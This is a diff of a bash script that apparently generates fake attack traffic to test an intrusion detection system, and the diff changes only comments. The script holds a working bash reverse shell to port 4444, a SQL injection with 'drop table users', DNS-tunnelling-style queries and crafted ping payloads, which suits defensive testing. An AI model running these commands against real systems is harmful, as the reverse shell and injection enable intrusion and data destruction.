@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Attacks with what every machine has: bash, ping, curl (or bash in its place). For the exercise ids.yaml.
+# Attacks with programs that every machine has: bash, ping, curl (without curl: bash). For the exercise ids.yaml.
 # usage: attack.sh NAME ADDRESS      attack.sh list
 # What is sent is harmless: it only looks like the real thing.
 set -u
@@ -12,7 +12,7 @@ if [ "$name" = list ] || [ -z "$target" ]; then
     exit 0
 fi
 
-get() { # a request with this path and query
+get() { # an HTTP request with this path and query
     if command -v curl >/dev/null; then
         curl -g -s -m 3 -o /dev/null "http://$target/$1"
     else
@@ -21,7 +21,7 @@ get() { # a request with this path and query
     fi
 }
 
-ask() { # a DNS question for a name of these labels and .example, as one datagram
+ask() { # a DNS query for a name of these labels and .example, as one datagram
     local label message='\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'
     for label in "$@" example; do
         message+="$(printf '\\x%02x' "${#label}")$label"
@@ -30,11 +30,11 @@ ask() { # a DNS question for a name of these labels and .example, as one datagra
     printf "$message"'\x00\x00\x10\x00\x01' | dd bs=65536 iflag=fullblock status=none >"/dev/udp/$target/53"
 }
 
-letters() { # so many letters and digits, as encoded data has them
+letters() { # so many random letters and digits, like encoded data
     head -c 300 /dev/urandom | base64 -w0 | tr -dc 'a-z0-9' | head -c "$1"
 }
 
-say() { # a connection to the attacker's port 4444 that says this and ends
+say() { # a connection to the attacker's port 4444 that sends this text and ends
     # shellcheck disable=SC2059
     printf "$1" >"/dev/tcp/$target/4444"
 }
@@ -51,14 +51,14 @@ second-statement) get "items?id=1;drop+table+users" ;;
 long-name) ask "$(letters 60)" "$(letters 55)" ;;
 many-names)
     for _ in $(seq 30); do
-        ask "$(letters 56)" t 2>/dev/null # refused by who has no server; it was sent nevertheless
+        ask "$(letters 56)" t 2>/dev/null # refused where no server runs; it was sent nevertheless
     done
     ;;
 large-echoes) ping -4 -q -c 14 -i 0.1 -s 800 -W 1 "$target" ;;
 large-echoes6) ping -6 -q -c 14 -i 0.1 -s 800 -W 1 "$target" ;;
 ip-in-echo) ping -4 -q -c 1 -s 12 -p 4500000c -W 1 "$target" ;;
 ssh-in-echo) ping -4 -q -c 1 -s 8 -p 5353482d322e302d -W 1 "$target" ;;
-shell) # without a terminal: its greeting is what gives it away
+shell) # without a terminal: the IDS knows it by its greeting
     timeout -s KILL 20 bash --norc --noprofile -i >& "/dev/tcp/$target/4444" 0>&1 ;;
 windows-shell)
     say 'Microsoft Windows [Version 10.0.19045.3693]\r\n(c) Microsoft Corporation. All rights reserved.\r\n' ;;
